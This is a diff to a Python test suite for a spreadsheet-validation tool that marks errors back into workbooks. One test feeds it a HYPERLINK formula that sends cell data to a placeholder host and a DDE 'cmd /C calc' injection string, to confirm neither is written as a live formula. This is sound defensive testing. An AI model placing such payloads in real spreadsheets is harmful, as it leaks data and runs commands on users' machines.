@@ -12,7 +12,7 @@ import pytest
 from openpyxl.comments import Comment
 from openpyxl.worksheet.worksheet import Worksheet
 
-from ingest import formats, marked, period
+from ingest import catalogue, formats, marked, period
 from ingest.place import column_letters, in_sheet
 from ingest.readers.marks import FINDINGS_SHEET, PASSED, RESULT_HEADING
 from ingest.readers.sheets import Book
@@ -30,8 +30,9 @@ def at(cell: str, sheet: str = INPUT_SHEET) -> str:
     return f'Sheet "{sheet}", {cell}'
 
 
-OUT_OF_RANGE = finding("value_is_in_range", "error", place=at("H9"), found="145.8", expected="0..100")
-NO_NUMBER = finding("value_is_a_number", "error", place=at("H10"), found="=abc")
+RULES = catalogue.read().rules
+OUT_OF_RANGE = finding(RULES["value_is_in_range"], severity="error", place=at("H9"), found="145.8", expected="0..100")
+NO_NUMBER = finding(RULES["value_is_a_number"], severity="error", place=at("H10"), found="=abc")
 FELL = Finding("fell", "warning", at("H10"), "abc", "", "Giảm 50 % so với TP. Huế. Hãy xem lại.", "It fell. Look.")
 GONE = Finding("row_gone", "information", f'Sheet "{INPUT_SHEET}"', "", "X", "Mất một dòng.", "A row is gone.")
 WHOLE = Finding("whole", "warning", "", "@SUM(A1)", "-5", "Cả tệp.", "The file.", "đúng", "lan")
@@ -203,7 +204,9 @@ def test_the_marked_workbook_is_mended_and_read_again_as_if_it_were_not_marked(b
 
 
 def test_the_long_format_passes_over_our_column_but_not_over_what_a_person_typed_into_it() -> None:
-    wrong = finding("value_is_in_range", "error", place=at("D2", "Số liệu"), found="86", expected="0..1")
+    wrong = finding(
+        RULES["value_is_in_range"], severity="error", place=at("D2", "Số liệu"), found="86", expected="0..1"
+    )
     back = marked.mark(workbook(LONG), [wrong], [at("D3", "Số liệu")])
     sheet = opened(back)["Số liệu"]
     assert [cell.value for cell in sheet["E"]] == [RESULT_HEADING, "LỖI: 86 nằm ngoài khoảng cho phép (0..1).", PASSED]
@@ -217,7 +220,9 @@ def test_the_long_format_passes_over_our_column_but_not_over_what_a_person_typed
 
 def test_what_a_spreadsheet_would_run_is_never_written_as_a_formula(back: bytes) -> None:
     evil = '=HYPERLINK("http://a/?"&A1)<&>\x00'
-    made = finding("value_is_a_number", "error", place=at("H9"), found=evil, expected="+1+cmd|' /C calc'!A0")
+    made = finding(
+        RULES["value_is_a_number"], severity="error", place=at("H9"), found=evil, expected="+1+cmd|' /C calc'!A0"
+    )
     written = parts(marked.mark(back, [made], []))
     for name, content in written.items():
         if name.startswith("xl/worksheets/") and b"=HYPERLINK" in content:
@@ -263,7 +268,7 @@ def test_macros_and_what_no_library_knows_stay_byte_for_byte(sent: bytes) -> Non
     "content", [b"indicator,value\nA,1\n", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x03\x04cut", b""]
 )
 def test_of_what_is_no_workbook_there_is_a_list_that_says_so(content: bytes) -> None:
-    found = finding("value_is_a_number", "error", place='line 2, column "value"', found="nhiều")
+    found = finding(RULES["value_is_a_number"], severity="error", place='line 2, column "value"', found="nhiều")
     book = opened(marked.mark(content, [found], ['line 3, column "value"']))
     assert book.sheetnames == [FINDINGS_SHEET]
     sheet = book[FINDINGS_SHEET]
@@ -286,7 +291,10 @@ def without_rows(content: bytes) -> bytes:
 @pytest.mark.parametrize("change", [with_prefix, without_rows, lambda content: content.replace(b'"', b"'")])
 def test_sheets_are_marked_however_their_xml_is_written(change: Callable[[bytes], bytes]) -> None:
     given = rewritten(workbook([*LONG, ["X", "VN", 2020, 5]]), "xl/worksheets/sheet1.xml", change)
-    wrong = [finding("value_is_given", "error", place=at(f"D{line}", "Số liệu"), found="") for line in (2, 3, 4, 7)]
+    wrong = [
+        finding(RULES["value_is_given"], severity="error", place=at(f"D{line}", "Số liệu"), found="")
+        for line in (2, 3, 4, 7)
+    ]
     sheet = opened(marked.mark(given, wrong, []))["Số liệu"]
     filled_lines = [cell.row for cell in sheet["E"] if str(cell.value).startswith("LỖI: Thiếu giá trị.")]
     assert filled_lines == [2, 3, 4, 7]
@@ -336,7 +344,7 @@ def test_a_monthly_workbook_comes_back_with_every_cell_and_format_of_its_own(mon
         for column, cell in enumerate(row)
         if isinstance(cell, float)
     ]
-    wrong = finding("value_is_in_range", "warning", place=figures[3], found="1", expected="2")
+    wrong = finding(RULES["value_is_in_range"], severity="warning", place=figures[3], found="1", expected="2")
     back = marked.mark(monthly, [wrong], figures)
     old, new = parts(monthly), parts(back)
     touched = [name for name in old if new[name] != old[name] and name.startswith("xl/worksheets/sheet")]
